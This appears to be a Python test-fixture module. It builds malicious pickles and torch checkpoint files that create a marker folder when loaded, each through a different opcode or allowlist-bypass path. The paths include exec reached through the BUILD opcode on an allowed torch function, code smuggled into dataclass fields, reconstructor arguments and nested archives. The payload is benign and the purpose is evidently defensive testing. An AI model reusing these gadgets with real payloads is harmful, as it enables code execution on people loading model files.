"""Pickles that make a folder when they are unpickled, one for each way that pickles have to call something."""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

EXTENSION = 0x71  # a code of copyreg, of those free for private use


def text(value: str) -> bytes:
    """Push a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    """Push what a module calls so, by GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """Push it by STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def protocol(number: int, *parts: bytes) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([number]) + b"".join(parts) + b"."


MKDIR = name("posix", "mkdir")


def argument(marker: Path) -> bytes:
    """Push a tuple of the folder's name."""
    return text(str(marker)) + b"\x85"


def mkdir(marker: Path) -> bytes:
    """Push what making the folder returns."""
    return MKDIR + argument(marker) + b"R"


def inst(marker: Path) -> bytes:
    return protocol(2, b"(", text(str(marker)), b"iposix\nmkdir\n")


def obj(marker: Path) -> bytes:
    return protocol(2, b"(", MKDIR, text(str(marker)), b"o")


def mapped(marker: Path, new: Callable[[bytes, bytes], bytes]) -> bytes:
    """A map over mkdir, which a tuple made of it runs: neither is ever called."""
    calls = new(name("builtins", "map"), MKDIR + text(str(marker)) + b"\x85\x86")
    return protocol(4, new(name("builtins", "tuple"), calls + b"\x85"))


def memo_text(marker: Path) -> bytes:
    """The name's parts come out of the memo, where a look at neighbouring texts doesn't find them."""
    parts = text("mkdir") + b"\x94" + b"0" + text("posix") + b"\x94" + b"0" + text("collections") + b"0"
    return protocol(4, parts, b"h\x01h\x00\x93", argument(marker), b"R")


def memo_put(marker: Path) -> bytes:
    return protocol(2, MKDIR, b"p7\n0", text("harmless"), b"0g7\n", argument(marker), b"R")


def extension(marker: Path) -> bytes:
    return protocol(2, b"\x82", bytes([EXTENSION]), argument(marker), b"R")


def dotted(marker: Path) -> bytes:
    return protocol(4, stack_name("torch.serialization", "os.mkdir"), argument(marker), b"R")


def slots(marker: Path) -> bytes:
    """BUILD with slot state puts a field called like code on an allowed class; `dataclass` makes a function of it."""
    module = "torch.distributed.checkpoint.metadata"
    code = text(f"a=__import__('os').mkdir({str(marker)!r}),*")
    missing = name("dataclasses", "MISSING")
    field = name("dataclasses", "Field") + b"(" + missing + missing + b"\x89\x89N\x89N\x89tR"
    state = b"N}(" + text("__annotations__") + b"}" + code + name("builtins", "int") + b"s" + code + field + b"u\x86"
    target = name(module, "StorageMeta")
    return protocol(4, target, state, b"b0", name(module, "dataclass"), target, b"\x85R")


def function_state(marker: Path) -> bytes:
    """BUILD gives an allowed function's table of layouts Python's builtins, of which it hands one out."""
    layout = name("torch.serialization", "_get_layout")
    state = b"}" + text("cache") + name("numpy.dtypes", "__builtins__") + b"s"
    code = f"__import__('os').mkdir({str(marker)!r})"
    return protocol(2, layout, state, b"b0", layout, text("exec"), b"\x85R", text(code), b"\x85R")


def in_reconstructor(marker: Path) -> bytes:
    """Where an allowed function wants a storage."""
    return protocol(2, name("torch._utils", "_rebuild_tensor_v2"), b"(", mkdir(marker), b"K\x00))\x89}tR")


def in_type(marker: Path) -> bytes:
    """Torch's own rebuilding of subclasses calls what it is given."""
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    return protocol(2, rebuild, b"(", MKDIR, name("torch", "Tensor"), argument(marker), b"}tR")


def in_object_array(marker: Path) -> bytes:
    array = name("numpy.core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
    dtype = name("numpy", "dtype") + text("O8") + b"\x89\x88\x87R(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xff"
    dtype += b"J\xff\xff\xff\xffK?tb"
    return protocol(4, array, b"(K\x01K\x01\x85", dtype, b"\x89]", mkdir(marker), b"atb")


def nested(marker: Path) -> bytes:
    """A whole file of torch.save as bytes, for the function with which torch copies storages."""
    buffer = io.BytesIO()
    write_zip(buffer, protocol(2, mkdir(marker)))
    data = buffer.getvalue()
    return protocol(3, name("torch.storage", "_load_from_bytes"), b"B", struct.pack("<I", len(data)), data, b"\x85R")


def in_key(marker: Path) -> bytes:
    return protocol(2, b"}", mkdir(marker), b"K\x01s")


def behind_stop(marker: Path) -> bytes:
    return protocol(2, b"}") + protocol(2, mkdir(marker))


def write_zip(file: str | Path | io.BytesIO, pickled: bytes, records: dict[str, bytes] | None = None) -> None:
    """A file as torch.save's, around any pickle."""
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        for key, data in ({"byteorder": b"little", "version": b"3\n"} | (records or {})).items():
            archive.writestr(f"archive/{key}", data)


PICKLES: dict[str, Callable[[Path], bytes]] = {
    "GLOBAL": lambda marker: protocol(2, mkdir(marker)),
    "STACK_GLOBAL": lambda marker: protocol(4, stack_name("posix", "mkdir"), argument(marker), b"R"),
    "without a protocol": lambda marker: mkdir(marker) + b".",
    "INST": inst,
    "OBJ": obj,
    "NEWOBJ": lambda marker: mapped(marker, lambda kind, arguments: kind + arguments + b"\x81"),
    "NEWOBJ_EX": lambda marker: mapped(marker, lambda kind, arguments: kind + arguments + b"}\x92"),
    "the name in the memo": memo_text,
    "PUT and GET": memo_put,
    "EXT1": extension,
    "a dotted name": dotted,
    "BUILD of a class by slots": slots,
    "BUILD of a function": function_state,
    "in a reconstructor's arguments": in_reconstructor,
    "rebuilding a subclass": in_type,
    "in an array of objects": in_object_array,
    "a file in the pickle": nested,
    "as a key": in_key,
}


def unpickle(pickled: bytes) -> None:
    """What an unguarded load does, in a process of its own; errors after the deed don't matter."""
    child = os.fork()
    if child == 0:
        try:
            copyreg.add_extension("posix", "mkdir", EXTENSION)
            pickle.loads(pickled)
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def write_sharded(folder: Path, content: dict[str, torch.Tensor], entry: bytes, entry_name: str) -> None:
    """A sharded checkpoint of whole tensors, one of whose entries is other bytes, with fitting metadata."""
    from torch.distributed.checkpoint import FileSystemReader, save

    save(content, checkpoint_id=folder, no_dist=True)
    metadata = FileSystemReader(folder).read_metadata()
    for index, info in metadata.storage_data.items():
        if index.fqn == entry_name:
            path = folder / info.relative_path
            info.offset, info.length = path.stat().st_size, len(entry)
            with path.open("ab") as file:
                file.write(entry)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))
